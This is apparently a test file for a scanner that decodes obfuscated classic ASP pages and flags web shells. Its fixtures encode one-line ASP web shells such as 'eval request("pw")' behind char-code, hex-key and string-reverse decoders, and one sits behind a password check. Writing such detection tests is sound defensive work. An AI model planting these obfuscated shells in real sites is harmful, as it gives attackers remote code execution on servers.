/**
 * Classic ASP code hidden behind the page's own decoder (asp-interp.ts): a Function that walks
 * a string with Mid/Asc/Chr, splits it on a separator or shifts it by a key, whose result
 * Execute/Eval runs. The page's constant part is run and the decoded code judged as a layer.
 * Every fixture is written for this test (the payloads are encoded here, from plain text), with
 * benign look-alikes: a plugin registry, a form loop that writes assignments, a page that
 * decodes text only to print it. Hostile pages stay bounded in CPU time.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { evaluatedCode } from '../../src/scan/analyzers/asp-interp.js';
import { withBudget } from '../../src/scan/budget.js';
import { findingOf, reasons } from './helpers.js';

/** Each character's code plus `k`, joined with `%` (the shape of the shells' DeAsc decoders). */
function shifted(text: string, k: number): string {
  return Array.from(text, (c) => `%${c.charCodeAt(0) + k}`).join('');
}

function verdict(path: string, code: string): string {
  const f = findingOf(path, code);
  return `${f?.verdict ?? 'clean'}: ${reasons(f).join('; ')}`;
}

test('asp decoders: a char-code decoder loop feeding Execute runs the requester code', () => {
  const code = `<%\nExecute(DeAsc("${shifted('eval request("pw")', 18)}"))\nFunction DeAsc(Str)\n  Str = Split(Str, "%")\n  For I = 1 To UBound(Str)\n    DeAsc = DeAsc & Chr(Str(I) - 18)\n  Next\nEnd Function\n%>`;
  assert.deepEqual(evaluatedCode(code), [{ at: code.indexOf('Execute'), name: 'execute', text: 'eval request("pw")' }]);
  const f = findingOf('a.asp', code);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('request input reaches eval'), reasons(f).join('; '));
});

test('asp decoders: a Mid/Asc shift with If/ElseIf arms and a key, a Step loop, a Sub with a ByRef result', () => {
  const enc = Array.from('execute request("k")', (c) => String.fromCharCode(c.charCodeAt(0) + 3)).join('');
  const shift = `<%\ns = "${enc}"\nexecute(DeCode(s))\nFunction DeCode(Coded)\n  On Error Resume Next\n  For i = 1 To Len(Coded)\n    c = Mid(Coded, i, 1)\n    If Asc(c) = 16 Then\n      c = Chr(8)\n    ElseIf Asc(c) = 24 Then\n      c = Chr(12)\n    Else\n      c = Chr(Asc(c) - 3)\n    End If\n    DeCode = DeCode & c\n  Next\nEnd Function\n%>`;
  assert.equal(verdict('b.asp', shift).split(':')[0], 'malicious');
  // hex pairs minus a digit of the key, two characters per step
  const key = '13';
  let hex = '';
  for (const [i, c] of Array.from('eval request("z")').entries()) hex += (c.charCodeAt(0) + Number(key[((i + 1) % key.length) + 1 - 1]!)).toString(16);
  const stepped = `<%\nFunction cd(ByVal s, ByVal key)\n  For i = 1 To Len(s) Step 2\n    k = ((i + 1) / 2) Mod Len(key) + 1\n    cd = cd & Chr(("&H" & Mid(s, i, 2)) - Mid(key, k, 1))\n  Next\nEnd Function\nExecute cd("${hex}", "${key}")\n%>`;
  assert.deepEqual(
    evaluatedCode(stepped).map((r) => r.text),
    ['eval request("z")'],
  );
  assert.equal(verdict('c.asp', stepped).split(':')[0], 'malicious');
  const byRef = `<%\nSub Unpack(ByRef t)\n  t = StrReverse(Replace(t, "~", ""))\nEnd Sub\nx = ")""q""(tseuq~er lav~e"\nUnpack x\nExecute x\n%>`;
  assert.deepEqual(
    evaluatedCode(byRef).map((r) => r.text),
    ['eval request("q")'],
  );
  // (the verdict still reads `Execute x` by replaying plain assignments, which miss the Sub's
  // write-back: the interpreter is consulted only for arguments the replay cannot fold)
});

test('asp decoders: a payload decoded behind a request check still shows (both arms of an unknown If run)', () => {
  const code = `<%\nFunction D(t)\n  D = Replace(Replace(t, "h45as", "("), "w$@s", ")")\nEnd Function\nIf Request("pass") = "open" Then\n  Execute(D("eval requesth45as""x""w$@s"))\nEnd If\n%>`;
  assert.equal(verdict('e.asp', code).split(':')[0], 'malicious');
});

test('asp decoders look-alikes: plugin registry, form loop, decoded text printed, fixed code', () => {
  // a CMS running its plugins' registered handlers (an array element, not a decoder)
  assert.equal(
    verdict('plugins.asp', `<%\nDim Handlers(2)\nHandlers(0) = "Call Plugin_Init()"\nFor i = 0 To UBound(Handlers) - 1\n  Call Execute(Handlers(i))\nNext\n%>`),
    'suspicious: Execute of dynamic code',
  );
  // a form handler writing `field = Trim(Request.Form("field"))` for its own field list
  assert.equal(verdict('form.asp', `<%\nFor Each f In Array("title", "body")\n  Execute(f & "=Trim(Request.Form(""" & f & """))")\nNext\n%>`), 'clean: ');
  // a decoder whose result is only printed
  assert.equal(
    verdict('show.asp', `<%\nFunction Rot(t)\n  For i = 1 To Len(t)\n    Rot = Rot & Chr(Asc(Mid(t, i, 1)) + 1)\n  Next\nEnd Function\nResponse.Write Rot("Gdkkn")\n%>`),
    'clean: ',
  );
  // a decoder producing the page's own fixed code: the layer is judged, and it is harmless
  assert.equal(verdict('fixed.asp', `<%\nFunction Un(t)\n  Un = StrReverse(t)\nEnd Function\nExecute Un(")""olleh""(etirW.esnopseR")\n%>`), 'clean: ');
  // an upload class defining SaveToFile and returning from it is not a write of a request-chosen file
  assert.equal(
    verdict(
      'upload.asp',
      `<%\nClass Upfile\n  Public Function SaveToFile(ByVal Path, ByVal Opt)\n    Set s = Server.CreateObject("ADODB.Stream")\n    s.SaveToFile Path, 2\n    Set SaveToFile = Nothing\n  End Function\nEnd Class\nSet u = New Upfile\nu.SaveToFile Server.MapPath("/uploads/" & Request("n") & ".jpg"), 2\n%>`,
    ).split(':')[0],
    'clean',
  );
});

test('asp decoders: hostile pages stay bounded (unclosed blocks, long lines, runaway loops, deep recursion)', () => {
  const cases: Record<string, string> = {
    unclosedFor: `<%\n${'For i = 1 To 10\n'.repeat(50_000)}Execute("abcd")\n%>`,
    unclosedIf: `<%\n${'If 1 = 1 Then\n'.repeat(50_000)}%>`,
    longLine: `<%\nx = ${'"ab" & '.repeat(100_000)}"c"\nExecute(x)\n%>`,
    unterminated: `<%\n${'x = "ab '.repeat(100_000)}\n%>`,
    runaway: '<%\nFor i = 1 To 100000000\nx = x & "abcdefgh"\nNext\nExecute(x)\n%>',
    bigReplace: '<%\nx = String(500000, "a")\nFor i = 1 To 100000000\nx = Replace(x, "a", "a")\nNext\nExecute(x)\n%>',
    endless: '<%\nDo While 1 = 1\nx = x + 1\nLoop\n%>',
    recursion: '<%\nFunction f(n)\n  f = f(n + 1) & "a"\nEnd Function\nExecute(f(1))\n%>',
  };
  for (const [name, code] of Object.entries(cases)) {
    const t0 = process.cpuUsage();
    withBudget(60_000, () => evaluatedCode(code));
    const used = process.cpuUsage(t0);
    const ms = (used.user + used.system) / 1000;
    // measured at 100-250 CPU-ms each on a loaded machine; a quadratic pass takes minutes
    assert.ok(ms < 3000, `${name}: ${ms.toFixed(0)} CPU-ms`);
  }
});
